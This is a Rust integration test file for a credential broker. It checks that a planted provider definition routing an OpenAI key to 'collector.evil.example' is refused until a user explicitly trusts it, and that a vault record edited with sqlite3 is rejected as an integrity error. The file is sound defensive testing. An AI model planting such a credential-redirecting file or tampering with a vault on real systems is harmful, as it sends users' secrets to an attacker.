//! A credential goes only where the user accepted: a provider file planted in
//! `$BROKER_HOME/providers/` that adds a host gets no key there until `broker providers trust`.

use std::process::Stdio;
use std::time::Duration;

use broker_integration::{get, run_bounded, send, Home, Origin, Serve, TestCa};

const KEY: &str = "sk-test-real-openai-key-for-trust-0123456789";
const PH: &str = "sk-broker-placeholder-openai-0000000000000000";

/// The built-in openai definition with `hosts` instead of its own.
fn openai_toml(hosts: &str) -> String {
    format!(
        r#"name = "openai"
display_name = "OpenAI (planted)"
env = ["OPENAI_API_KEY"]
placeholder = "{PH}"
key_pattern = '^sk-[A-Za-z0-9_-]{{20,}}$'
auth = "api_key"
[[routes]]
hosts = [{hosts}]
credential = [{{ header = "authorization", scheme = "bearer" }}]
"#
    )
}

fn ask(serve: &Serve, host: &str) -> broker_integration::ClientResponse {
    send(
        serve.addr_for(host),
        host,
        &serve.ca_pem(),
        false,
        get(
            host,
            "/v1/models",
            &[("authorization", &format!("Bearer {PH}"))],
        ),
    )
    .expect("response")
}

#[test]
fn a_planted_provider_file_gets_no_key_for_its_new_host_until_the_user_trusts_it() {
    let ca = TestCa::new();
    let real = Origin::bearer(&ca, "api.openai.com", KEY, "real");
    let evil = Origin::bearer(&ca, "collector.evil.example", KEY, "collected");
    let home = Home::new();
    home.add("openai", KEY);
    let providers = home.path().join("providers");
    std::fs::create_dir_all(&providers).expect("dir");
    std::fs::write(
        providers.join("openai.toml"),
        openai_toml(r#""api.openai.com", "collector.evil.example""#),
    )
    .expect("plant");
    let serve = Serve::start(
        &home,
        &ca,
        &[
            ("api.openai.com", real.addr),
            ("collector.evil.example", evil.addr),
        ],
    );

    // The new host: refused, saying how to review it; nothing reached it.
    let refused = ask(&serve, "collector.evil.example");
    assert_eq!(refused.status, 403, "{}", refused.text());
    let why = refused
        .header("x-broker-error")
        .unwrap_or_default()
        .to_string();
    assert!(why.contains("broker providers trust openai"), "{why}");
    assert!(!broker_integration::contains(&refused.body, KEY));
    assert!(evil.requests().is_empty(), "the planted host was reached");
    // The accepted host still works.
    assert_eq!(ask(&serve, "api.openai.com").status, 200);

    // Reviewing without a terminal needs --yes; the review names the new host.
    let out = run_bounded(
        home.broker()
            .args(["providers", "trust", "openai"])
            .stdin(Stdio::null()),
        Duration::from_secs(30),
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!out.status.success(), "{stdout}");
    assert!(
        stdout.contains("+ collector.evil.example (authorization: bearer)"),
        "{stdout}"
    );
    assert_eq!(ask(&serve, "collector.evil.example").status, 403);

    // Accepted: the key goes there now, and the audit says who accepted what.
    home.broker_ok(&["providers", "trust", "openai", "--yes"]);
    let accepted = ask(&serve, "collector.evil.example");
    assert_eq!(accepted.status, 200, "{}", accepted.text());
    assert_eq!(evil.requests().len(), 1);
    let audit = home.audit_until(|a| a.contains("provider_trusted"));
    let line = audit
        .lines()
        .find(|l| l.contains("\"provider_trusted\""))
        .expect("an acceptance line");
    assert!(
        line.contains("broker providers trust") && line.contains("collector.evil.example"),
        "{line}"
    );

    // A definition that only drops hosts needs nothing.
    std::fs::write(
        providers.join("openai.toml"),
        openai_toml(r#""collector.evil.example""#),
    )
    .expect("narrow");
    let out = home.broker_ok(&["providers", "trust", "openai"]);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("Nothing to accept"),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
}

/// The vault's record of what was accepted is sealed: a row edited outside broker refuses the
/// provider's credential with an integrity error rather than trusting what it says.
#[test]
fn an_edited_acceptance_record_is_an_integrity_error() {
    let ca = TestCa::new();
    let real = Origin::bearer(&ca, "api.openai.com", KEY, "real");
    let home = Home::new();
    home.add("openai", KEY);
    let status = std::process::Command::new("sqlite3")
        // A running broker commits the audit head to the vault: wait for its lock.
        .args(["-cmd", ".timeout 5000"])
        .arg(home.path().join("vault.db"))
        .arg("UPDATE provider_trust SET grants = X'0102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f20' WHERE provider = 'openai';")
        .status()
        .expect("sqlite3");
    assert!(status.success());
    let serve = Serve::start(&home, &ca, &[("api.openai.com", real.addr)]);
    let answer = ask(&serve, "api.openai.com");
    assert_eq!(answer.status, 500, "{}", answer.text());
    let why = answer
        .header("x-broker-error")
        .unwrap_or_default()
        .to_string();
    assert!(
        why.contains("integrity") && why.contains("broker providers trust openai"),
        "{why}"
    );
    assert!(real.requests().is_empty());
}
